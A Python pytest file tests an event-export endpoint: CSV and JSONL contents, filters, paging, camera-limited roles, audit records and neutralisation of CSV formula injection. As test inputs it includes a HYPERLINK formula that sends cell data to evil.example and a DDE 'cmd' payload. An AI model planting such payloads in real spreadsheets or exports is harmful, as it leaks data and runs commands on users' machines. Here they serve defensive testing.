"""Event export: CSV and JSONL contents, filters, limits, camera limits, roles, audit, safety."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

import httpx
import pytest
from apisupport import T0, World
from fastapi.testclient import TestClient

from citybrain.core.events import new_event_id
from citybrain.records import EventState, Role
from citybrain.services.export import COLUMNS, neutralise
from citybrain.store.repositories.upserts import upsert_events

JPEG = b"\xff\xd8\xff\xe0" + b"anonymised snapshot" + b"\xff\xd9"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    reader = csv.DictReader(io.StringIO(response.text, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def _jsonl(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    assert response.text == "" or response.text.endswith("\n")
    return [json.loads(line) for line in response.text.splitlines()]


def _export_ids(client: TestClient, headers: dict[str, str], **params: Any) -> list[str]:
    return [row["id"] for row in _csv(client.get("/api/events/export", params=params,
                                                 headers=headers))]  # fmt: skip


def _list_ids(client: TestClient, headers: dict[str, str], **params: Any) -> list[str]:
    response = client.get("/api/events", params={**params, "limit": 500}, headers=headers)
    assert response.status_code == 200, response.text
    return [e["id"] for e in response.json()["items"]]


def _expected_row(event: dict[str, Any], camera: str) -> dict[str, Any]:
    return {column: camera if column == "camera" else event[column] for column in COLUMNS}


def _as_csv(row: dict[str, Any]) -> dict[str, str]:
    """A row as CSV shows it: structured values (box, details) as compact JSON text."""

    def cell(value: Any) -> str:
        if isinstance(value, dict | list):
            return json.dumps(value, separators=(",", ":"))
        return "" if value is None else str(value)

    return {k: cell(v) for k, v in row.items()}


def test_csv_and_jsonl_hold_the_events_as_the_api_shows_them(
    client: TestClient, world: World
) -> None:
    gate, yard = world.camera("gate"), world.camera("yard, north")
    media = world.services.media
    plain = world.event(gate, started_at=T0, ended_at=T0 + timedelta(seconds=42), score=0.75)
    crossing = world.event(yard, started_at=T0 + timedelta(minutes=1), kind="line_crossing",
                           rule="counts", zone=None, line="entry", label="car",
                           track_id=17)  # fmt: skip
    pictured = world.event(gate, started_at=T0 + timedelta(minutes=2))
    stored = media.save_snapshot(camera_id=gate, event_id=pictured, jpeg=JPEG, at=T0)
    world.event(gate, id=pictured, started_at=T0 + timedelta(minutes=2), snapshot=stored)
    ann = world.user("ann", Role.OPERATOR)
    assert client.post(f"/api/events/{plain}/acknowledge", headers=ann).status_code == 200
    note = 'a cleaner, "again"\nsecond line'
    resolved = client.post(f"/api/events/{plain}/resolve", json={"note": note}, headers=ann)
    assert resolved.status_code == 200

    listed = client.get("/api/events", headers=ann).json()["items"]
    names = {gate: "gate", yard: "yard, north"}
    expected = [_expected_row(e, names[e["camera_id"]]) for e in listed]
    assert [e["id"] for e in expected] == [pictured, crossing, plain]  # newest first

    response = client.get("/api/events/export", headers=ann)
    assert _csv(response) == [_as_csv(row) for row in expected]
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="citybrain-events-')
    assert disposition.endswith('Z.csv"')
    assert response.headers["cache-control"] == "private, no-store"
    assert stored not in response.text and "snapshots/" not in response.text

    lines = client.get("/api/events/export", params={"format": "jsonl"}, headers=ann)
    assert _jsonl(lines) == expected
    assert lines.headers["content-disposition"].endswith('Z.jsonl"')
    rows = {row["id"]: row for row in expected}
    assert rows[plain]["note"] == note and rows[plain]["resolved_by"] == "ann"
    assert rows[plain]["acknowledged_at"] and rows[plain]["ended_at"]
    assert rows[crossing]["line"] == "entry" and rows[crossing]["track_id"] == 17
    # The URL is the audited route, and it serves the snapshot.
    assert rows[pictured]["snapshot_url"] == f"/api/events/{pictured}/snapshot.jpg"
    assert client.get(rows[pictured]["snapshot_url"], headers=ann).content == JPEG
    assert rows[plain]["snapshot_url"] is None


def test_filters_and_limit_select_what_the_list_would(client: TestClient, world: World) -> None:
    gate, yard = world.camera("gate"), world.camera("yard")
    for i, (kind, zone) in enumerate(
        [("dwell", "site"), ("occupancy", "site"), ("dwell", "road"), ("dwell", "site")]
    ):
        world.event(gate, started_at=T0 + timedelta(minutes=i), kind=kind, zone=zone)
    world.event(yard, started_at=T0 + timedelta(minutes=10))
    bob = world.user("bob", Role.SUPERVISOR)
    resolved = _list_ids(client, bob, kind="occupancy")[0]
    assert client.post(f"/api/events/{resolved}/resolve", headers=bob).status_code == 200
    queries: list[dict[str, Any]] = [
        {}, {"camera": yard}, {"camera": [gate, yard], "kind": "dwell"},
        {"kind": ["dwell", "occupancy"], "zone": "site"}, {"status": "resolved"},
        {"status": ["open", "acknowledged"], "zone": "road"},
        {"from": (T0 + timedelta(minutes=1)).isoformat(),
         "to": (T0 + timedelta(minutes=3)).isoformat()},
        {"from": (T0 + timedelta(minutes=2)).replace(tzinfo=None).isoformat()},
        {"kind": "nothing"},
    ]  # fmt: skip
    sizes = set()
    for params in queries:
        exported = _export_ids(client, bob, **params)
        assert exported == _list_ids(client, bob, **params), params
        sizes.add(len(exported))
    assert sizes == {0, 1, 2, 3, 5}  # the filters really narrow
    assert _export_ids(client, bob, limit=2) == _list_ids(client, bob)[:2]
    jsonl = client.get("/api/events/export", params={"format": "jsonl", "kind": "dwell",
                                                     "limit": 2}, headers=bob)  # fmt: skip
    assert [r["id"] for r in _jsonl(jsonl)] == _list_ids(client, bob, kind="dwell")[:2]
    for bad in ({"limit": 0}, {"limit": 100_001}, {"format": "xlsx"}, {"status": "lost"},
                {"from": "9999-12-31T23:00-05:00"}, {"camera": 0}):  # fmt: skip
        response = client.get("/api/events/export", params=bad, headers=bob)
        assert response.status_code == 422, (bad, response.text)
    assert world.audit_actions("events.export") != []
    assert all(e["detail"]["format"] in ("csv", "jsonl") for e in world.audit_actions(
        "events.export"))  # fmt: skip


def _values(camera_id: int, **overrides: Any) -> dict[str, Any]:
    values = dict(
        id=new_event_id(), camera_id=camera_id, kind="dwell", rule="loiter", zone="site",
        line=None, label="person", track_id=1, started_at=T0, ended_at=None, score=0.5,
        bbox=None, details={}, snapshot=None,
    )  # fmt: skip
    values.update(overrides)
    return values


def test_an_export_pages_through_many_events_in_order(client: TestClient, world: World) -> None:
    gate = world.camera("gate")
    # Pairs share a start time: the id breaks the tie.
    rows = [
        _values(gate, track_id=i, started_at=T0 + timedelta(seconds=i // 2)) for i in range(1203)
    ]
    with world.store.session() as session:
        upsert_events(session, [EventState(**r) for r in rows])
    newest_first = [r["id"] for r in sorted(rows, key=lambda r: (r["started_at"], r["id"]),
                                            reverse=True)]  # fmt: skip
    ann = world.user("ann", Role.OPERATOR)
    assert _export_ids(client, ann) == newest_first
    assert _export_ids(client, ann, limit=1001) == newest_first[:1001]
    lines = _jsonl(client.get("/api/events/export", params={"format": "jsonl", "limit": 501},
                              headers=ann))  # fmt: skip
    assert [r["id"] for r in lines] == newest_first[:501]


def test_a_limited_user_exports_only_their_cameras(client: TestClient, world: World) -> None:
    mine, theirs = world.camera("mine"), world.camera("theirs")
    visible = world.event(mine)
    world.event(theirs, kind="occupancy", label="secret-label")
    ann = world.user("ann", Role.OPERATOR, cameras=(mine,))
    for export_format in ("csv", "jsonl"):
        response = client.get("/api/events/export", params={"format": export_format}, headers=ann)
        assert response.status_code == 200
        assert "theirs" not in response.text and "secret-label" not in response.text
        assert visible in response.text
    assert _export_ids(client, ann, camera=mine) == [visible]
    exports_before = len(world.audit_actions("events.export"))
    for camera in (theirs, [mine, theirs], 999):
        response = client.get("/api/events/export", params={"camera": camera}, headers=ann)
        assert response.status_code == 404, camera
        assert response.json()["detail"].endswith("not found")
        assert "secret-label" not in response.text
    assert len(world.audit_actions("events.export")) == exports_before  # refused: not exported
    root = world.user("root", Role.ADMIN)
    assert len(_export_ids(client, root)) == 2
    missing = client.get("/api/events/export", params={"camera": 999}, headers=root)
    assert missing.status_code == 404


def test_auditors_and_anonymous_callers_are_refused(client: TestClient, world: World) -> None:
    world.event(world.camera("gate"))
    audrey = world.user("audrey", Role.AUDITOR)
    response = client.get("/api/events/export", headers=audrey)
    assert response.status_code == 403
    assert response.json()["detail"] == (
        "role 'auditor' may not export events; needs admin, supervisor, operator"
    )
    assert client.get("/api/events/export").status_code == 401
    assert world.audit_actions("events.export") == []
    for role in (Role.ADMIN, Role.SUPERVISOR, Role.OPERATOR):
        headers = world.user(f"user-{role.value}", role)
        assert len(_export_ids(client, headers)) == 1, role


def test_every_export_is_audited_with_its_filters(client: TestClient, world: World) -> None:
    gate, yard = world.camera("gate"), world.camera("yard")
    world.event(gate)
    ann = world.user("ann", Role.OPERATOR)
    since = (T0 - timedelta(hours=1)).isoformat()
    assert len(_export_ids(client, ann)) == 1
    assert len(_export_ids(client, ann, camera=gate, kind="restricted_zone", zone="site",
                           status=["open", "acknowledged"], **{"from": since})) == 1  # fmt: skip
    response = client.get("/api/events/export", params={"format": "jsonl", "camera": [yard, gate],
                                                         "limit": 5}, headers=ann)  # fmt: skip
    assert response.status_code == 200
    entries = sorted(world.audit_actions("events.export"), key=lambda e: e["at"])
    assert len(entries) == 3
    assert {(e["username"], e["client"], e["target"]) for e in entries} == {
        ("ann", "testclient", None)
    }
    assert [e["camera_id"] for e in entries] == [None, gate, None]
    assert [e["detail"] for e in entries] == [
        {"format": "csv", "limit": 10_000},
        {"format": "csv", "limit": 10_000, "camera": [gate], "kind": ["restricted_zone"],
         "zone": "site", "status": ["open", "acknowledged"], "from": since},
        {"format": "jsonl", "limit": 5, "camera": sorted([gate, yard])},
    ]  # fmt: skip


def test_csv_cells_cannot_start_a_formula(client: TestClient, world: World) -> None:
    gate = world.camera("@gate")
    event_id = world.event(gate, label="+cmd|' /C calc'!A0", zone="-2+3", rule="=1+1")
    ann = world.user("ann", Role.OPERATOR)
    response = client.post(f"/api/events/{event_id}/resolve", json={"note": INJECTION},
                           headers=ann)  # fmt: skip
    assert response.status_code == 200
    (row,) = _csv(client.get("/api/events/export", headers=ann))
    assert (row["note"], row["camera"]) == ("'" + INJECTION, "'@gate")
    assert (row["label"], row["zone"], row["rule"]) == ("'+cmd|' /C calc'!A0", "'-2+3", "'=1+1")
    assert row["score"] == "0.9" and row["track_id"] == "1"  # numbers stay numbers
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    raw = list(csv.reader(io.StringIO(client.get("/api/events/export", headers=ann).text,
                                      newline="")))  # fmt: skip
    assert all(not cell.startswith(dangerous) for line in raw for cell in line)
    (line,) = _jsonl(client.get("/api/events/export", params={"format": "jsonl"}, headers=ann))
    assert (line["note"], line["camera"]) == (INJECTION, "@gate")  # JSONL keeps data as stored


@pytest.mark.parametrize(
    ("text", "safe"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a=1", "a=1"), ("", ""), (" =1", " =1"),
     ("'=1", "'=1")],
)  # fmt: skip
def test_neutralise(text: str, safe: str) -> None:
    assert neutralise(text) == safe
